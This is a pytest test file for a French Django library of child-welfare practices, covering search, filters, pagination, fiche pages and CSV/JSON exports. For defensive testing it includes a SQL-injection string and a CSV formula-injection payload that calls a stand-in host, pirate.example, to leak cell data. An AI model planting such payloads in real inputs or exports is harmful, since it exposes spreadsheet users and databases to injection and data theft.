"""The public library: search, facets, filters in the URL, pagination, fiche page, exports."""

import csv
import io
import json

import pytest
from django.http import QueryDict
from django.urls import reverse

from enfance.core.models import SearchEntry
from enfance.practices import library, library_views
from enfance.practices.enums import EvidenceStage, PracticeLevel, PracticeState, ReferenceList
from enfance.practices.library import LibraryQuery
from tests.factories import DepartementFactory, RegionFactory
from tests.practices.factories import PracticeFactory, option

pytestmark = pytest.mark.django_db

LIBRARY = reverse("practices:library")


def published(**kwargs):
    practice = PracticeFactory(**kwargs)
    library.index_practice(practice)
    return practice


@pytest.fixture
def paris(db):
    return DepartementFactory(
        code="75", name="Paris", region=RegionFactory(code="11", name="Île-de-France")
    )


@pytest.fixture
def themes(db):
    return (
        option(ReferenceList.THEME, "Parentalité"),
        option(ReferenceList.THEME, "Scolarité"),
    )


@pytest.fixture
def fiches(paris, themes):
    parentalite, scolarite = themes
    return {
        "education": published(
            title="Éducation à la parentalité",
            description="Des ateliers pour les parents d'enfants placés.",
            theme=parentalite,
        ),
        "scolaire": published(
            title="Soutien scolaire en foyer",
            description="Aide aux devoirs pour les enfants accueillis.",
            theme=scolarite,
            departement=paris,
        ),
        "onpe": published(
            title="Visites médiatisées",
            description="Un cadre pour les rencontres entre parents et enfants.",
            level=PracticeLevel.ONPE,
            evidence_stage=EvidenceStage.ONPE,
            evidence_level=3,
            objectives="Maintenir le lien familial.",
            theme=parentalite,
        ),
    }


def get(client, **params):
    response = client.get(LIBRARY, params)
    assert response.status_code == 200
    assert "INVALID_TEMPLATE_VARIABLE" not in response.content.decode()
    return response


def found_titles(query_params) -> set[str]:
    params = QueryDict(mutable=True)
    for key, value in query_params.items():
        params.setlist(key, value if isinstance(value, list) else [value])
    return set(library.results(LibraryQuery.from_params(params)).values_list("title", flat=True))


def test_library_lists_only_published_fiches(client, fiches):
    PracticeFactory(title="Brouillon secret", state=PracticeState.DRAFT, published_at=None)
    content = get(client).content.decode()
    for practice in fiches.values():
        assert practice.title in content
    assert "Brouillon secret" not in content
    assert "3 pratiques trouvées" in content


def test_french_search_ignores_accents_case_and_plural(client, fiches):
    assert found_titles({"q": "education"}) == {"Éducation à la parentalité"}
    assert found_titles({"q": "ENFANT scolaire"}) == {"Soutien scolaire en foyer"}
    # Level-2 sections are searched too.
    assert found_titles({"q": "lien familial"}) == {"Visites médiatisées"}
    content = get(client, q="education").content.decode()
    assert "Éducation à la parentalité" in content
    assert "Soutien scolaire" not in content


def test_filters_combine_and_facets_count(fiches, paris, themes):
    parentalite, scolarite = themes
    assert found_titles({"thematique": str(parentalite.pk)}) == {
        "Éducation à la parentalité",
        "Visites médiatisées",
    }
    assert found_titles({"thematique": [str(parentalite.pk), str(scolarite.pk)]}) == {
        "Éducation à la parentalité",
        "Visites médiatisées",
        "Soutien scolaire en foyer",
    }
    assert found_titles({"thematique": str(parentalite.pk), "niveau": "2"}) == {
        "Visites médiatisées"
    }
    assert found_titles({"departement": "75"}) == {"Soutien scolaire en foyer"}
    assert found_titles({"etape": "onpe", "preuve": "3"}) == {"Visites médiatisées"}
    assert found_titles({"q": "parents", "niveau": "1"}) == {"Éducation à la parentalité"}

    query = LibraryQuery.from_params(_params(q="enfants", niveau="1"))
    counts = {facet.facet.param: facet for facet in library.facets(query)}
    # A filter's own selection does not narrow its counts: the alternatives keep theirs.
    levels = {value.value: (value.count, value.selected) for value in counts["niveau"].values}
    assert levels == {1: (2, True), 2: (1, False)}
    themes_count = {value.label: value.count for value in counts["thematique"].values}
    assert themes_count == {"Parentalité": 1, "Scolarité": 1}
    departements = {value.label: value.count for value in counts["departement"].values}
    assert departements["Paris (75)"] == 1
    assert {value.value for value in counts["annee"].values} == {2021}


def _params(**params):
    query = QueryDict(mutable=True)
    for key, value in params.items():
        query.setlist(key, value if isinstance(value, list) else [value])
    return query


def test_selected_value_without_results_stays_visible_to_be_removed(fiches):
    query = LibraryQuery.from_params(_params(q="scolaire", preuve="5"))
    counts = {facet.facet.param: facet for facet in library.facets(query)}
    assert [(value.value, value.count, value.selected) for value in counts["preuve"].values] == [
        (5, 0, True)
    ]


def test_page_shows_filters_in_the_url_and_removable_tags(client, fiches, themes):
    parentalite, _ = themes
    content = get(client, q="enfants", thematique=parentalite.pk).content.decode()
    assert "Retirer le filtre Thématique : Parentalité" in content
    assert f'href="{LIBRARY}?q=enfants"' in content
    assert f"{reverse('practices:export_csv')}?q=enfants&amp;thematique={parentalite.pk}" in content


def test_sort_by_relevance_or_date(fiches):
    newest = published(title="Parentalité positive", description="Rien d'autre.")
    by_relevance = list(
        library.results(LibraryQuery.from_params(_params(q="parentalité"))).values_list(
            "title", flat=True
        )
    )
    # The title weighs more than the description: both titles come first.
    assert set(by_relevance[:2]) == {"Parentalité positive", "Éducation à la parentalité"}
    by_date = library.results(LibraryQuery.from_params(_params(q="parentalité", tri="date")))
    assert by_date.first() == newest
    assert library.results(LibraryQuery.from_params(_params())).first() == newest


def test_pagination_keeps_the_question(client, themes):
    parentalite, _ = themes
    for number in range(library.PAGE_SIZE + 3):
        published(title=f"Atelier parents {number}", theme=parentalite)
    first = get(client, q="atelier", thematique=parentalite.pk).content.decode()
    assert f"{LIBRARY}?q=atelier&amp;thematique={parentalite.pk}&amp;page=2" in first
    second = get(client, q="atelier", thematique=parentalite.pk, page=2).content.decode()
    assert "2 / 2" in second
    assert second.count('class="fr-card fr-enlarge-link"') == 3
    # A page beyond the last shows the last one.
    assert "2 / 2" in get(client, q="atelier", page=999).content.decode()


def test_empty_state(client, fiches):
    content = get(client, q="introuvable").content.decode()
    assert "Aucune pratique ne correspond à votre recherche" in content
    assert "Aucune pratique trouvée" in content


@pytest.mark.parametrize(
    "params",
    [
        {"q": '"'},
        {"q": 'l\'enfant & "parents" %'},
        {"q": "😀🙂"},
        {"q": "NEAR(a b) OR c*"},
        {"q": "x" * 10_000},
        {"q": "enfant " * 2000},
        {"q": "le des"},
        {"q": "\x00"},
        {"thematique": "abc", "niveau": "9", "annee": "-1", "preuve": "99999999999999"},
        {"departement": "' OR 1=1 --", "echelle": "lune", "etape": "x" * 500},
        {"departement": "6\x009", "echelle": "\x00"},
        {"page": "abc"},
        {"page": "-3"},
        {"tri": "n'importe"},
    ],
)
def test_odd_inputs_are_answered(client, fiches, params):
    response = client.get(LIBRARY, params)
    assert response.status_code == 200
    assert client.get(reverse("practices:export_csv"), params).status_code == 200
    assert client.get(reverse("practices:export_json"), params).status_code == 200


def test_fiche_page_shows_every_field(client, fiches):
    practice = fiches["onpe"]
    practice.reviewed_on = practice.published_at.date()
    practice.review_due_on = practice.reviewed_on.replace(year=practice.reviewed_on.year + 2)
    practice.save()
    response = client.get(practice.get_absolute_url())
    assert response.status_code == 200
    content = response.content.decode()
    assert "INVALID_TEMPLATE_VARIABLE" not in content
    for text in (
        "Visites médiatisées",
        "Fiche dispositif ONPE",
        "Maintenir le lien familial.",
        "Objectifs",
        "3 — Prometteuse",
        "Examinée le",
        "À réexaminer avant le",
        "Parentalité",
        practice.entity_name,
        f"http://testserver{practice.get_absolute_url()}",
    ):
        assert text in content
    level_1 = client.get(fiches["education"].get_absolute_url()).content.decode()
    assert "Pratique déclarée" in level_1
    assert "pas encore évalué" in level_1


def test_fiche_links_to_the_evidence_scale(client, fiches):
    content = client.get(fiches["onpe"].get_absolute_url()).content.decode()
    assert reverse("practices:evidence_scale") in content


@pytest.mark.parametrize(
    "state",
    [PracticeState.DRAFT, PracticeState.SUBMITTED, PracticeState.REFUSED],
)
def test_unpublished_fiche_is_not_found(client, state):
    extra = {"refusal_reason": "Hors sujet."} if state == PracticeState.REFUSED else {}
    practice = PracticeFactory(state=state, published_at=None, **extra)
    assert client.get(reverse("practices:fiche", kwargs={"pk": practice.pk})).status_code == 404
    assert client.get(reverse("practices:fiche", kwargs={"pk": 999_999})).status_code == 404


def test_unindexed_fiche_leaves_the_search(fiches):
    library.unindex_practice(fiches["education"])
    assert found_titles({"q": "education"}) == set()


def test_deleted_fiche_leaves_no_search_entry(fiches):
    practice = fiches["education"]
    entries = SearchEntry.objects.filter(kind="practices.Practice", object_id=practice.pk)
    assert entries.exists()
    practice.delete()
    assert not entries.exists()
    assert found_titles({"q": "education"}) == set()


def test_published_fiche_found_after_its_text_changes(fiches):
    practice = fiches["scolaire"]
    practice.title = "Tutorat en maison d'enfants"
    practice.save()
    library.index_practice(practice)
    assert found_titles({"q": "tutorat"}) == {"Tutorat en maison d'enfants"}
    assert found_titles({"q": "foyer"}) == set()


def test_csv_export_of_the_current_search(client, fiches):
    response = client.get(reverse("practices:export_csv"), {"q": "enfants", "niveau": "1"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert {row["intitulé"] for row in rows} == {
        "Éducation à la parentalité",
        "Soutien scolaire en foyer",
    }
    row = next(row for row in rows if row["intitulé"] == "Soutien scolaire en foyer")
    assert row["département"] == "Paris"
    assert row["adresse"] == f"http://testserver{fiches['scolaire'].get_absolute_url()}"


def test_json_export_of_the_current_search(client, fiches):
    response = client.get(reverse("practices:export_json"), {"niveau": "2"})
    data = json.loads(response.content)
    assert data["count"] == 1
    assert data["results"][0]["title"] == "Visites médiatisées"
    assert data["results"][0]["objectives"] == "Maintenir le lien familial."
    assert data["results"][0]["evidence_level"] == 3


def test_pages_are_public(client, fiches):
    assert client.get(LIBRARY).status_code == 200
    assert client.get(fiches["education"].get_absolute_url()).status_code == 200


def test_list_page_queries_do_not_grow_with_fiches(client, django_assert_max_num_queries, themes):
    parentalite, scolarite = themes
    for number in range(40):
        published(
            title=f"Atelier parents {number}",
            theme=parentalite if number % 2 else scolarite,
            level=PracticeLevel.ONPE if number % 3 == 0 else PracticeLevel.DECLARED,
            evidence_stage=EvidenceStage.ONPE if number % 3 == 0 else EvidenceStage.DECLARED,
        )
    for params in ({}, {"q": "atelier parents", "thematique": parentalite.pk, "niveau": "1"}):
        with django_assert_max_num_queries(15):
            response = client.get(LIBRARY, params)
        assert response.status_code == 200
        # Asked again, the question is answered from the cache.
        with django_assert_max_num_queries(2):
            client.get(LIBRARY, params)


def test_fiche_page_queries(client, django_assert_max_num_queries, fiches):
    with django_assert_max_num_queries(15):
        response = client.get(fiches["onpe"].get_absolute_url())
    assert response.status_code == 200


def test_search_rate_limit_counts_new_questions_only(client, fiches, monkeypatch):
    monkeypatch.setattr(library_views, "SEARCH_RATE", "3/m")
    for number in range(3):
        assert client.get(LIBRARY, {"q": f"mot{number}"}).status_code == 200
    assert client.get(LIBRARY, {"q": "encore"}).status_code == 429
    # A question already answered is still served.
    assert client.get(LIBRARY, {"q": "mot1"}).status_code == 200
    assert client.get(LIBRARY).status_code == 200


def test_csv_export_never_hands_a_formula_to_a_spreadsheet(client, fiches):
    # A title typed by a declarant: opened in a spreadsheet, it must stay text.
    published(title='=HYPERLINK("http://pirate.example/?"&A1;"Voir")', description="-2+3")
    # No search term: PostgreSQL's parser reads the address as one host token, not a word.
    response = client.get(reverse("practices:export_csv"))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = csv.DictReader(io.StringIO(text), delimiter=";")
    row = next(row for row in rows if "HYPERLINK" in row["intitulé"])
    assert row["intitulé"] == '\'=HYPERLINK("http://pirate.example/?"&A1;"Voir")'
    assert row["description"] == "'-2+3"
